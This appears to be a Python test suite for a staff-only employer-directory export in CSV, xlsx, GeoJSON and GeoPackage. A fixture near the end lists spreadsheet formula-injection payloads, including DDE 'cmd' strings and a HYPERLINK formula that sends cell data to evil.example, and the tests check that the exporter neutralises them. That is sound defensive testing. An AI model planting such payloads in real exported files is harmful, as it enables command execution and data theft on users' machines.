"""Exporting published employers as CSV, xlsx, GeoJSON and GeoPackage: exactly the published set
(or the filtered part of it), private fields only on request, only for staff, no formulas."""

import csv
import io
import re
from datetime import date

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import load_workbook

from app.models import CompanyStatus

PUBLISHED = {
    "baecker": dict(lon=7.1975, lat=51.6146, sectors=("10",), occupations=("29",)),
    "elektro": dict(lon=7.1012345, lat=51.6523456, sectors=("43",), family=("part_time",)),
    "maler": dict(lon=6.9612, lat=51.6611, sectors=("43", "47"), occupations=("32", "26")),
}
HIDDEN = (CompanyStatus.PENDING, CompanyStatus.REJECTED, CompanyStatus.ARCHIVED)
KINDS = ["csv", "xlsx", "geojson", "gpkg"]


@pytest.fixture
def entries(make_company):
    for slug, fields in PUBLISHED.items():
        make_company(
            slug.title(),
            slug=slug,
            contact_name="Frau Geheim",
            contact_email=f"geheim@{slug}.example",
            **fields,
        )
    for status in HIDDEN:
        make_company(f"Nicht öffentlich {status}", slug=f"hidden-{status}", status=status)


def read_back(content: bytes, kind: str, tmp_path) -> gpd.GeoDataFrame:
    path = tmp_path / f"export.{kind}"
    path.write_bytes(content)
    if kind == "csv":  # GDAL's CSV driver makes points of the lon/lat columns
        return gpd.read_file(path, X_POSSIBLE_NAMES="lon", Y_POSSIBLE_NAMES="lat")
    if kind == "xlsx":
        table = pd.read_excel(path, dtype={"postal_code": str, "municipality_ags": str})
        for name in ("sectors", "occupations", "family", "contact_name", "contact_email"):
            if name in table.columns:
                table[name] = table[name].astype("string").fillna("").astype(str)
        points = gpd.points_from_xy(table.pop("lon"), table.pop("lat"))
        return gpd.GeoDataFrame(table, geometry=points, crs="EPSG:4326")
    return gpd.read_file(path)


def coordinates(frame) -> dict[str, tuple[float, float]]:
    return {
        slug: (round(point.x, 6), round(point.y, 6))
        for slug, point in zip(frame["slug"], frame.geometry, strict=True)
    }


EXPECTED = {slug: (round(f["lon"], 6), round(f["lat"], 6)) for slug, f in PUBLISHED.items()}


@pytest.mark.parametrize("kind", KINDS)
def test_export_reads_back_as_the_published_set(client, auth, entries, kind, tmp_path):
    auth.login("curator")
    response = client.get(f"/agentur/export/datei?format={kind}")
    assert response.status_code == 200
    today = date.today().isoformat()
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=kmu-atlas-{today}.{kind}"
    )
    assert response.headers["Cache-Control"] == "private, no-store"
    frame = read_back(response.data, kind, tmp_path)
    if kind not in ("csv", "xlsx"):
        assert frame.crs.to_epsg() == 4326
    assert sorted(frame["slug"]) == sorted(PUBLISHED)
    assert coordinates(frame) == EXPECTED
    rows = frame.set_index("slug")
    assert rows.loc["maler", "sectors"] == "43;47"
    assert rows.loc["maler", "occupations"] == "26;32"
    assert rows.loc["elektro", "family"] == "part_time"
    assert rows.loc["baecker", "name"] == "Baecker"
    assert str(rows.loc["baecker", "postal_code"]) == "45657"
    assert "contact_name" not in frame.columns and "contact_email" not in frame.columns


def test_csv_is_utf8_with_lon_lat_columns(client, auth, make_company):
    make_company("Bäckerei Öztürk & Söhne", slug="oeztuerk", description='Brot, "Simit"; Börek')
    auth.login("curator")
    content = client.get("/agentur/export/datei?format=csv").data
    assert content.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads UTF-8
    table = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str)
    assert list(table.columns[-2:]) == ["lon", "lat"]
    assert table.loc[0, "name"] == "Bäckerei Öztürk & Söhne"
    assert table.loc[0, "description"] == 'Brot, "Simit"; Börek'
    assert table.loc[0, "municipality_ags"] == "05562032"


@pytest.mark.parametrize("kind", KINDS)
def test_private_fields_only_on_request(client, auth, entries, kind, tmp_path):
    auth.login("curator")
    frame = read_back(
        client.get(f"/agentur/export/datei?format={kind}&private=1").data, kind, tmp_path
    )
    assert set(frame["contact_email"]) == {f"geheim@{slug}.example" for slug in PUBLISHED}
    assert set(frame["contact_name"]) == {"Frau Geheim"}


@pytest.mark.parametrize("kind", KINDS)
def test_the_filter_narrows_the_export(client, auth, entries, kind, tmp_path):
    auth.login("curator")
    frame = read_back(
        client.get(f"/agentur/export/datei?format={kind}&sector=43").data, kind, tmp_path
    )
    assert sorted(frame["slug"]) == ["elektro", "maler"]
    near = read_back(
        client.get(f"/agentur/export/datei?format={kind}&near=51.6146,7.1975&radius_km=2").data,
        kind,
        tmp_path,
    )
    assert list(near["slug"]) == ["baecker"]


def test_an_empty_set_still_gives_a_readable_file(client, auth, entries, tmp_path):
    auth.login("curator")
    for kind in KINDS:
        response = client.get(f"/agentur/export/datei?format={kind}&sector=01")
        assert response.status_code == 200
        assert len(read_back(response.data, kind, tmp_path)) == 0


def test_export_page_counts_what_the_filter_matches(client, auth, entries):
    auth.login("curator")
    everything = client.get("/agentur/export").get_data(as_text=True)
    assert "3 veröffentlichte Einträge." in everything
    html = client.get("/agentur/export?sector=43&lang=de").get_data(as_text=True)
    assert "2 veröffentlichte Einträge passen zur Auswahl." in html
    assert '<input type="hidden" name="sector" value="43">' in html
    assert 'action="/agentur/export/datei"' in html


def test_bad_filter_or_format_gives_the_message(client, auth, entries):
    auth.login("curator")
    page = client.get("/agentur/export?sector=ZZ")
    assert page.status_code == 400
    assert "Unbekannter Wirtschaftszweig „ZZ“" in page.get_data(as_text=True)
    download = client.get("/agentur/export/datei?format=csv&size=huge")
    assert download.status_code == 400
    assert "Unbekannte Größenklasse „huge“" in download.get_data(as_text=True)
    unknown = client.get("/agentur/export/datei?format=shp")
    assert unknown.status_code == 400
    assert "Unbekanntes Format „shp“" in unknown.get_data(as_text=True)


def test_start_page_links_staff_to_the_export_of_the_selection(client, auth, entries):
    assert "Diese Auswahl exportieren" not in client.get("/?sector=43").get_data(as_text=True)
    auth.login("curator")
    html = client.get("/?sector=43&q=Maler").get_data(as_text=True)
    link = re.search(r'<a id="export-link" href="([^"]+)">Diese Auswahl exportieren</a>', html)
    assert link.group(1) == "/agentur/export?q=Maler&amp;sector=43"


def test_anonymous_visitors_get_no_export(client, entries):
    for url in (
        "/agentur/export",
        "/agentur/export?sector=43",
        "/agentur/export/datei?format=csv",
        "/agentur/export/datei?format=geojson&private=1",
        "/agentur/export/datei?format=gpkg",
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        assert b"geheim@" not in response.data


#: Texts a spreadsheet program would run as formulas (OWASP "CSV Injection"), by column.
FORMULAS = {
    "name": "=cmd|' /C calc'!A0",
    "description": '=HYPERLINK("https://evil.example/?"&A1,"Mehr erfahren")',
    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "house_number": "+1+1",
    "town": "-2+3+cmd|' /C calc'!A0",
    "phone": "\t=1+1",
    "website": "\r=1+1",
    "contact_name": "=1+1",
    "contact_email": "＝1+1",
}


@pytest.fixture
def formulas(make_company):
    make_company(slug="formeln", employees=12, lat=51.6146, lon=7.1975, **FORMULAS)


def test_csv_cells_that_would_be_formulas_are_neutralised(client, auth, formulas):
    auth.login("curator")
    content = client.get("/agentur/export/datei?format=csv&private=1").data
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    assert {name: rows[0][name] for name in FORMULAS} == {
        name: "'" + text for name, text in FORMULAS.items()
    }
    assert rows[0]["employees"] == "12" and rows[0]["lon"] == "7.1975"  # numbers unchanged


def test_xlsx_cells_that_would_be_formulas_are_neutralised(client, auth, formulas):
    auth.login("curator")
    response = client.get("/agentur/export/datei?format=xlsx&private=1")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, row = [[cell for cell in values] for values in sheet.iter_rows()]
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    assert not any(cell.data_type == "f" for cell in row)  # no formula at all
    assert {name: cells[name].value for name in FORMULAS} == {
        name: "'" + text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        for name, text in FORMULAS.items()
    }
    assert cells["employees"].value == 12 and cells["employees"].data_type == "n"
    assert cells["lat"].value == pytest.approx(51.6146)
    assert cells["offers_apprenticeships"].value is False


@pytest.mark.parametrize("kind", ["geojson", "gpkg"])
def test_vector_exports_keep_the_texts_as_they_are(client, auth, formulas, kind, tmp_path):
    auth.login("curator")
    frame = read_back(client.get(f"/agentur/export/datei?format={kind}").data, kind, tmp_path)
    assert frame.loc[0, "name"] == FORMULAS["name"]
    assert frame.loc[0, "description"] == FORMULAS["description"]


def test_csv_content_type_names_the_charset_once(client, auth, entries):
    auth.login("curator")
    response = client.get("/agentur/export/datei?format=csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
